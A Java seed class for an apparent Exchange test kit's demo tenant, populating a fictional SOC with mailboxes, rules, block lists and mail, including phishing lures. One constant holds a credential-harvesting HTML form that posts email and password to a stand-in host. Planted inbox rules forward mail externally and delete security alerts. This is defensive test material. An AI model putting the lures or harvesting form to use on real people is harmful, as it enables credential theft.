package dev.exchangesdk.testkit.internal.seed;

import dev.exchangesdk.testkit.internal.MessageFactory;
import dev.exchangesdk.testkit.internal.store.AdminData;
import dev.exchangesdk.testkit.internal.store.ComplianceData;
import dev.exchangesdk.testkit.internal.store.ContactData;
import dev.exchangesdk.testkit.internal.store.Folder;
import dev.exchangesdk.testkit.internal.store.InboxRule;
import dev.exchangesdk.testkit.internal.store.Item;
import dev.exchangesdk.testkit.internal.store.Mailbox;
import dev.exchangesdk.testkit.internal.store.Permission;
import dev.exchangesdk.testkit.internal.store.Tenant;
import dev.exchangesdk.testkit.model.NewMessage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The demo tenant ({@code Seed.DEMO}): a small contoso.com with a SOC, users, a shared phishing
 * report mailbox, realistic mail spread over the last three days, and the admin and compliance
 * objects an incident responder looks at. Same content on every start; times relative to the fake's
 * clock. TESTKIT.md describes it for users.
 *
 * <p>Stateless; {@link #populate} runs under the tenant lock.
 */
public final class DemoTenant {
  /** A 1x1 PNG, the inline logo of the demo mails. */
  private static final byte[] LOGO_PNG =
      Base64.getDecoder()
          .decode(
              "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

  /** The credential-harvesting page attached to the invoice phish (its SHA-256 is blocked). */
  public static final byte[] PAYMENT_PORTAL_HTML =
      ("<html><head><title>Fabrikam Payment Portal</title></head><body>"
              + "<form action=\"https://fabrikam-billing.example/collect\" method=\"post\">"
              + "<input name=\"email\"><input name=\"password\" type=\"password\">"
              + "<button>View invoice</button></form></body></html>")
          .getBytes(StandardCharsets.UTF_8);

  private DemoTenant() {}

  /** Fills an empty tenant with the demo content. */
  public static void populate(Tenant t) {
    Instant end = t.clock.instant().truncatedTo(ChronoUnit.SECONDS);
    Instant start = end.minus(Duration.ofDays(3));
    try {
      t.setTimeOverride(start.minus(Duration.ofDays(30)));
      Mailbox soc =
          user(
              t,
              "soc@contoso.com",
              "SOC Team",
              "SOC",
              "Team",
              "Security Operations",
              "Security Analyst");
      Mailbox alice =
          user(
              t,
              "alice@contoso.com",
              "Alice Johnson",
              "Alice",
              "Johnson",
              "Finance",
              "Financial Controller");
      Mailbox bob =
          user(t, "bob@contoso.com", "Bob Smith", "Bob", "Smith", "Sales", "Account Executive");
      Mailbox carol =
          user(
              t,
              "carol@contoso.com",
              "Carol White",
              "Carol",
              "White",
              "IT",
              "Exchange Administrator");
      Mailbox reports =
          t.createMailbox("phishing-reports@contoso.com", "Phishing Reports", "SharedMailbox");
      Mailbox archive =
          user(
              t, "svc-archive@contoso.com", "Archive Service", null, null, "IT", "Service account");
      archive.auditBypassEnabled = true;
      t.createGroup(
          "finance-leads@contoso.com",
          "Finance Leads",
          List.of("carol@contoso.com", "alice@contoso.com"));
      t.createGroup(
          "finance@contoso.com",
          "Finance Team",
          List.of("alice@contoso.com", "finance-leads@contoso.com", "controller@fabrikam.example"));
      t.createGroup(
          "all-staff@contoso.com",
          "All Staff",
          List.of(
              "finance@contoso.com", "bob@contoso.com", "carol@contoso.com", "soc@contoso.com"));

      folder(t, soc, "Inbox", "Phishing");
      folder(t, soc, "Inbox", "Processed");
      folder(t, alice, "Inbox", "Newsletters");
      folder(t, reports, "Inbox", "Triage");

      settings(t, soc, alice, bob, carol, reports);
      rules(t, soc, alice, bob);
      admin(t, end);
      contacts(t, alice);
      publicFolders(t);

      mail(t, soc, alice, bob, reports, start);
      quarantine(t, alice, bob, start.plus(Duration.ofHours(30)));
      compliance(t, start.plus(Duration.ofHours(70)));
    } finally {
      t.setTimeOverride(null);
    }
  }

  private static Mailbox user(
      Tenant t,
      String address,
      String name,
      String first,
      String last,
      String department,
      String title) {
    Mailbox m = t.createMailbox(address, name, "UserMailbox");
    m.firstName = first;
    m.lastName = last;
    m.department = department;
    m.title = title;
    m.office = "Redmond";
    m.city = "Redmond";
    m.phone = "+1 425 555 0" + (100 + Math.abs(address.hashCode()) % 900);
    return m;
  }

  private static Folder folder(Tenant t, Mailbox m, String parent, String name) {
    Folder p = t.folderByPath(m, parent);
    return t.newFolder(m, p, name, "IPF.Note");
  }

  private static void settings(
      Tenant t, Mailbox soc, Mailbox alice, Mailbox bob, Mailbox carol, Mailbox reports) {
    alice.junk.blockedSendersAndDomains.addAll(
        List.of("spam-offers.example", "lottery-winner@prizes.example"));
    alice.junk.trustedSendersAndDomains.addAll(List.of("fabrikam.com", "contoso-news.example"));
    bob.junk.trustedSendersAndDomains.add("contoso-news.example");
    soc.junk.trustedListsOnly = false;
    bob.oof.state = "Enabled";
    bob.oof.externalAudience = "All";
    bob.oof.internalReply =
        "I'm at the sales conference until Friday. For urgent matters contact carol@contoso.com.";
    bob.oof.externalReply = "Thank you for your message. I'm out of the office until Friday.";
    reports.mailboxPermissions.add(
        new Permission("soc@contoso.com", List.of("FullAccess"), false, false, "All"));
    reports.recipientPermissions.add(
        new Permission("soc@contoso.com", List.of("SendAs"), false, false, "None"));
    alice.mailboxPermissions.add(
        new Permission("carol@contoso.com", List.of("FullAccess"), false, false, "All"));
    carol.ewsEnabled = true;
  }

  private static void rules(Tenant t, Mailbox soc, Mailbox alice, Mailbox bob) {
    InboxRule newsletters = rule(alice, "Newsletters", 1);
    newsletters.subjectContainsWords.add("Newsletter");
    newsletters.moveToFolder = "Inbox/Newsletters";
    newsletters.stopProcessingRules = true;
    InboxRule forward = rule(bob, "Forward to personal", 1);
    forward.forwardTo.add("bob.smith.personal@gmail.example");
    InboxRule reports = rule(soc, "Automated reports", 1);
    reports.from.add("monitoring@vendor.example");
    reports.markAsRead = true;
    reports.moveToFolder = "Inbox/Processed";
    InboxRule hidden = rule(bob, "Delete security alerts", 2);
    hidden.subjectContainsWords.addAll(List.of("security alert", "unusual sign-in"));
    hidden.deleteMessage = true;
    hidden.enabled = false;
  }

  private static InboxRule rule(Mailbox m, String name, int priority) {
    InboxRule r = new InboxRule(m.nextRuleIdentity);
    m.nextRuleIdentity =
        m.nextRuleIdentity.add(java.math.BigInteger.valueOf(7_919L * (priority + 13)));
    r.name = name;
    r.priority = priority;
    m.inboxRules.add(r);
    return r;
  }

  private static void admin(Tenant t, Instant now) {
    entry(
        t,
        "Sender",
        "Block",
        "micros0ft-support.example",
        now.plus(Duration.ofDays(30)),
        "Password-expiry phishing campaign");
    entry(t, "Url", "Block", "login-microsoftonline.example/*", null, "Credential harvesting site");
    entry(
        t,
        "FileHash",
        "Block",
        HexFormat.of().formatHex(sha256(PAYMENT_PORTAL_HTML)),
        now.plus(Duration.ofDays(90)),
        "Payment_Portal.html");
    entry(
        t,
        "Sender",
        "Allow",
        "newsletter@fabrikam.com",
        now.plus(Duration.ofDays(30)),
        "Vendor newsletter misclassified as bulk");

    AdminData.TransportRule tag = transportRule(t, "Tag external mail", 0, now);
    tag.parameters.put("FromScope", "NotInOrganization");
    tag.parameters.put("SetHeaderName", "X-Contoso-External");
    tag.parameters.put("SetHeaderValue", "true");
    AdminData.TransportRule exe = transportRule(t, "Block executable attachments", 1, now);
    exe.parameters.put("AttachmentExtensionMatchesWords", List.of("exe", "scr", "js", "vbs"));
    exe.parameters.put("RejectMessageReasonText", "Executable attachments are not allowed.");
    AdminData.TransportRule phish = transportRule(t, "Quarantine password-expiry phish", 2, now);
    phish.parameters.put("SenderDomainIs", List.of("micros0ft-support.example"));
    phish.parameters.put("Quarantine", true);
    phish.mode = "Audit";
    phish.comments = "INC-2024-0042: audit first, enforce after review";

    AdminData.RemoteDomain dflt = new AdminData.RemoteDomain();
    dflt.identity = "Default";
    dflt.domainName = "*";
    dflt.autoForwardEnabled = true;
    t.admin.remoteDomains.add(dflt);
    AdminData.RemoteDomain fabrikam = new AdminData.RemoteDomain();
    fabrikam.identity = "Fabrikam";
    fabrikam.domainName = "fabrikam.com";
    fabrikam.autoForwardEnabled = false;
    fabrikam.trustedMailInboundEnabled = true;
    fabrikam.trustedMailOutboundEnabled = true;
    t.admin.remoteDomains.add(fabrikam);
  }

  private static void entry(
      Tenant t, String type, String action, String value, Instant expires, String notes) {
    t.admin.allowBlockList.add(
        AdminData.AllowBlockEntry.create(
            t.tenantId,
            type,
            "Tenant",
            action,
            value,
            expires,
            notes,
            t.now(),
            "carol@contoso.com"));
  }

  private static AdminData.TransportRule transportRule(
      Tenant t, String name, int priority, Instant now) {
    AdminData.TransportRule r = new AdminData.TransportRule(t.newGuid());
    r.name = name;
    r.priority = priority;
    r.createdBy = "carol@contoso.com";
    r.whenChanged = now.minus(Duration.ofDays(12));
    t.admin.transportRules.add(r);
    return r;
  }

  private static void contacts(Tenant t, Mailbox alice) {
    contact(t, alice, "Dana Lee", "Dana", "Lee", "dana.lee@fabrikam.com", "Fabrikam");
    contact(
        t, alice, "Erik Larsen", "Erik", "Larsen", "erik@northwind.example", "Northwind Traders");
  }

  private static void contact(
      Tenant t,
      Mailbox m,
      String name,
      String given,
      String surname,
      String email,
      String company) {
    Item c = t.newItem(m.distinguished("contacts"));
    c.kind = Item.Kind.CONTACT;
    c.itemClass = "IPM.Contact";
    c.subject = name;
    c.contact = new ContactData();
    c.contact.displayName = name;
    c.contact.givenName = given;
    c.contact.surname = surname;
    c.contact.companyName = company;
    c.contact.jobTitle = "Account Manager";
    c.contact.emailAddresses.put("EmailAddress1", email);
    c.contact.phoneNumbers.put("BusinessPhone", "+1 206 555 0142");
  }

  private static void publicFolders(Tenant t) {
    Folder bulletins = t.newFolder(null, t.publicFoldersRoot, "Security Bulletins", "IPF.Note");
    Item i = t.newItem(bulletins);
    Item content =
        MessageFactory.detached(
            t,
            null,
            NewMessage.builder()
                .from("Security Team", "soc@contoso.com")
                .to("all-staff@contoso.com")
                .subject("Bulletin: how to report phishing")
                .html(
                    "<p>Use the <b>Report</b> button, or forward suspicious mail as an attachment to phishing-reports@contoso.com.</p>")
                .messageId("<bulletin-001@contoso.com>")
                .build());
    content.copyContentTo(i);
    i.isRead = true;
  }

  private static void at(Tenant t, Instant start, int hours, int minutes) {
    t.setTimeOverride(start.plus(Duration.ofHours(hours)).plus(Duration.ofMinutes(minutes)));
  }

  private static NewMessage passwordPhish() {
    return NewMessage.builder()
        .from("Microsoft 365 Admin", "no-reply@micros0ft-support.example")
        .to("alice@contoso.com")
        .subject("Action required: your mailbox password expires today")
        .html(
            "<html><body><img src=\"cid:logo@micros0ft-support.example\" alt=\"Microsoft\">"
                + "<p>Dear user,</p><p>Your password for <b>alice@contoso.com</b> expires today. "
                + "<a href=\"https://login-microsoftonline.example/reset?u=alice%40contoso.com\">Keep my current password</a></p>"
                + "<p>Microsoft 365 Team</p></body></html>")
        .inlineImage("logo.png", "image/png", "logo@micros0ft-support.example", LOGO_PNG)
        .messageId("<20240312.password-expiry.8841@micros0ft-support.example>")
        .header(
            "Authentication-Results",
            "spf=fail (sender IP is 198.51.100.23) smtp.mailfrom=micros0ft-support.example; dkim=none; dmarc=fail action=none header.from=micros0ft-support.example")
        .header("X-Originating-IP", "[198.51.100.23]")
        .importance("High")
        .build();
  }

  private static NewMessage invoicePhish() {
    return NewMessage.builder()
        .from("Fabrikam Accounts", "accounts@fabrikam-billing.example")
        .to("bob@contoso.com")
        .subject("Invoice INV-20931 overdue - final notice")
        .html(
            "<p>Hello Bob,</p><p>Invoice INV-20931 is 30 days overdue. Open the attached portal to review and pay today to avoid service suspension.</p><p>Fabrikam Billing</p>")
        .attachFile(
            "Invoice_INV-20931.pdf",
            "application/pdf",
            pdf("Invoice INV-20931 - amount due USD 18,420.00"))
        .attachFile("Payment_Portal.html", "text/html", PAYMENT_PORTAL_HTML)
        .messageId("<INV20931.2024.0312@fabrikam-billing.example>")
        .header(
            "Authentication-Results",
            "spf=softfail smtp.mailfrom=fabrikam-billing.example; dkim=fail; dmarc=fail action=quarantine header.from=fabrikam-billing.example")
        .build();
  }

  private static void mail(
      Tenant t, Mailbox soc, Mailbox alice, Mailbox bob, Mailbox reports, Instant start) {
    at(t, start, 1, 5);
    inbound(
        t,
        NewMessage.builder()
            .from("Contoso News", "news@contoso-news.example")
            .to("alice@contoso.com", "bob@contoso.com")
            .subject("Contoso Weekly Newsletter #42")
            .html(
                "<html><body><img src=\"cid:banner@contoso-news.example\"><h1>This week at Contoso</h1><p>New cafeteria menu, the spring offsite, and a word from the CEO.</p></body></html>")
            .inlineImage("banner.png", "image/png", "banner@contoso-news.example", LOGO_PNG)
            .header("List-Unsubscribe", "<https://contoso-news.example/unsubscribe?u=42>")
            .messageId("<newsletter-42@contoso-news.example>")
            .build());

    at(t, start, 3, 40);
    internal(
        t,
        alice,
        NewMessage.builder()
            .from("Alice Johnson", "alice@contoso.com")
            .to("bob@contoso.com")
            .cc("finance@contoso.com")
            .subject("Q3 budget review")
            .text(
                "Hi Bob,\n\nPlease review the attached Q3 budget before Thursday's meeting.\n\nThanks,\nAlice")
            .attachFile(
                "Q3-budget.xlsx",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                zip("xl/workbook.xml", "<workbook/>"))
            .build());

    at(t, start, 5, 12);
    internal(
        t,
        bob,
        NewMessage.builder()
            .from("Bob Smith", "bob@contoso.com")
            .to("alice@contoso.com")
            .cc("carol@contoso.com")
            .subject("RE: Q3 budget review")
            .text(
                "Looks good to me. One question about travel costs - let's discuss Thursday.\n\nBob")
            .build());

    at(t, start, 9, 30);
    inbound(t, passwordPhish());

    at(t, start, 9, 47);
    inbound(t, invoicePhish());

    at(t, start, 10, 15);
    inbound(
        t,
        NewMessage.builder()
            .from("DocuSign", "dse@docusign-notify.example")
            .to("alice@contoso.com")
            .subject("DocuSign: Please review and sign Contract_Q3")
            .html(
                "<p>You have received a document to review and sign.</p><p><a href=\"https://docusign-notify.example/d/8f2c\">REVIEW DOCUMENT</a></p>")
            .attachFile(
                "Contract_Q3.zip",
                "application/x-zip-compressed",
                zip("Contract_Q3.docm", "macro-enabled document"))
            .messageId("<dse-8f2c@docusign-notify.example>")
            .build());

    at(t, start, 11, 2);
    internal(
        t,
        alice,
        NewMessage.builder()
            .from("Alice Johnson", "alice@contoso.com")
            .to("soc@contoso.com")
            .subject("FW: Action required: your mailbox password expires today")
            .text(
                "Hi SOC,\n\nThis looks like phishing - I did not click the link. Original attached.\n\nAlice")
            .attachMessage(passwordPhish())
            .build());

    at(t, start, 11, 20);
    internal(
        t,
        bob,
        NewMessage.builder()
            .from("Bob Smith", "bob@contoso.com")
            .to("phishing-reports@contoso.com")
            .subject("Phish report: Invoice INV-20931 overdue - final notice")
            .text("Reported with the Report Phishing button.")
            .attachMessage(invoicePhish())
            .build());

    at(t, start, 14, 0);
    inbound(
        t,
        NewMessage.builder()
            .from("Vendor Monitoring", "monitoring@vendor.example")
            .to("soc@contoso.com")
            .subject("Quarterly security report")
            .text(
                "Automated report: 0 critical, 2 high, 11 medium findings. Full report on the vendor portal.")
            .withoutMessageId()
            .build());

    at(t, start, 20, 45);
    internal(
        t,
        null,
        NewMessage.builder()
            .from("Carol White", "carol@contoso.com")
            .to("all-staff@contoso.com")
            .subject("Scheduled maintenance Saturday 22:00-02:00")
            .html(
                "<p>Hi all,</p><p>Email may be unavailable on Saturday between 22:00 and 02:00 UTC for scheduled maintenance.</p><p>Carol, IT</p>")
            .build());

    at(t, start, 30, 10);
    inbound(
        t,
        NewMessage.builder()
            .from("Fabrikam Newsletter", "newsletter@fabrikam.com")
            .to("bob@contoso.com")
            .subject("Fabrikam Product Update - March")
            .html("<h2>What's new at Fabrikam</h2><p>Faster shipping and a new partner portal.</p>")
            .messageId("<product-update-march@fabrikam.com>")
            .build());

    at(t, start, 40, 0);
    for (int i = 1; i <= 3; i++) {
      Folder processed = t.folderByPath(soc, "Inbox/Processed");
      Item done = t.newItem(processed);
      MessageFactory.detached(
              t,
              soc,
              NewMessage.builder()
                  .from("Contoso Alerts", "alerts@contoso.com")
                  .to("soc@contoso.com")
                  .subject("Closed: alert " + (1040 + i) + " - impossible travel")
                  .text("Alert " + (1040 + i) + " was closed as benign.")
                  .messageId("<alert-" + (1040 + i) + "@contoso.com>")
                  .read(true)
                  .build())
          .copyContentTo(done);
      done.received = t.now().minus(Duration.ofMinutes(10L * i));
    }

    at(t, start, 52, 33);
    inbound(
        t,
        NewMessage.builder()
            .from("HR Benefits", "benefits@contoso-hr.example")
            .to("soc@contoso.com", "alice@contoso.com")
            .subject("Open enrollment closes Friday - confirm your selections")
            .html(
                "<p>Confirm your benefit selections before Friday: <a href=\"https://contoso-hr.example.auth-check.example/login\">Benefits portal</a></p>")
            .messageId("<enroll-2024@contoso-hr.example>")
            .build());

    at(t, start, 60, 5);
    internal(
        t,
        soc,
        NewMessage.builder()
            .from("SOC Team", "soc@contoso.com")
            .to("alice@contoso.com")
            .subject("RE: FW: Action required: your mailbox password expires today")
            .text(
                "Thanks Alice, confirmed phishing. We have blocked the sender and are removing the message from all mailboxes.\n\nSOC")
            .build());
  }

  private static void inbound(Tenant t, NewMessage m) {
    Item content = MessageFactory.detached(t, null, m);
    t.transport.send(null, content);
  }

  private static void internal(Tenant t, Mailbox from, NewMessage m) {
    Mailbox sender = from != null ? from : t.mailbox(m.fromAddress());
    Item content = MessageFactory.detached(t, sender, m);
    content.internetMessageId = null;
    t.transport.prepareOutgoing(sender, content);
    t.transport.send(sender, content);
    Item sent = t.newItem(sender.distinguished("sentitems"));
    content.copyContentTo(sent);
    sent.isRead = true;
  }

  private static void quarantine(Tenant t, Mailbox alice, Mailbox bob, Instant when) {
    t.setTimeOverride(when);
    q(
        t,
        NewMessage.builder()
            .from("DHL Express", "noreply@dhl-tracking.example")
            .to("bob@contoso.com")
            .subject("Shipment notification - delivery failed")
            .text("Your parcel could not be delivered. Open the attached receipt.")
            .attachFile(
                "DHL_Receipt.exe",
                "application/x-msdownload",
                "MZ\u0090 fake executable".getBytes(StandardCharsets.ISO_8859_1))
            .messageId("<dhl-77120@dhl-tracking.example>")
            .build(),
        "Malware",
        "Anti-malware policy",
        List.of("bob@contoso.com"));
    t.setTimeOverride(when.plus(Duration.ofHours(4)));
    q(
        t,
        NewMessage.builder()
            .from("Microsoft Account Team", "account-security@micros0ft-support.example")
            .to("alice@contoso.com")
            .subject("Your account has been suspended")
            .html(
                "<p>Verify your identity within 24 hours: <a href=\"https://login-microsoftonline.example/verify\">Verify now</a></p>")
            .messageId("<suspend-5531@micros0ft-support.example>")
            .build(),
        "HighConfPhish",
        "Office365 AntiPhish Default",
        List.of("alice@contoso.com"));
  }

  private static void q(
      Tenant t, NewMessage m, String type, String policy, List<String> recipients) {
    Item content = MessageFactory.detached(t, null, m);
    String policyType = type.equals("Malware") ? "AntiMalwarePolicy" : "AntiPhishPolicy";
    t.admin.quarantine.add(
        AdminData.QuarantinedMessage.of(t, content, type, policyType, policy, recipients));
    for (String r : recipients) {
      t.transport.trace(
          t.newGuid(),
          content,
          t.now(),
          m.fromAddress(),
          r,
          "Quarantined",
          null,
          "198.51.100.77",
          content.size());
    }
  }

  private static void compliance(Tenant t, Instant when) {
    t.setTimeOverride(when);
    ComplianceData.ComplianceCase c = new ComplianceData.ComplianceCase(t.newGuid());
    c.name = "INC-2024-0042 Password phish";
    c.description = "Password-expiry phishing campaign from micros0ft-support.example";
    c.createdDateTime = t.now();
    c.createdBy = "carol@contoso.com";
    t.compliance.cases.add(c);
    ComplianceData.ComplianceSearch s = new ComplianceData.ComplianceSearch(t.newGuid());
    s.name = "phish-password-expiry";
    s.contentMatchQuery = "subject:\"password expires today\" AND from:micros0ft-support.example";
    s.description = "Find the password-expiry phish in all mailboxes";
    s.exchangeLocation.add("All");
    s.caseName = c.name;
    s.caseId = c.identity;
    s.createdBy = "carol@contoso.com";
    s.createdTime = t.now();
    s.lastModifiedTime = s.createdTime;
    t.compliance.searches.add(s);
  }

  private static byte[] pdf(String text) {
    String body =
        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            + "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
            + "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >> endobj\n"
            + "4 0 obj << /Length "
            + (text.length() + 24)
            + " >> stream\nBT /F1 12 Tf 72 720 Td ("
            + text
            + ") Tj ET\nendstream endobj\n"
            + "trailer << /Root 1 0 R >>\n%%EOF\n";
    return body.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] zip(String name, String content) {
    try {
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      try (ZipOutputStream z = new ZipOutputStream(bytes)) {
        ZipEntry e = new ZipEntry(name);
        e.setTime(1_709_251_200_000L); // fixed, so the bytes (and their hash) never change
        z.putNextEntry(e);
        z.write(content.getBytes(StandardCharsets.UTF_8));
        z.closeEntry();
      }
      return bytes.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] sha256(byte[] data) {
    try {
      return MessageDigest.getInstance("SHA-256").digest(data);
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }
}
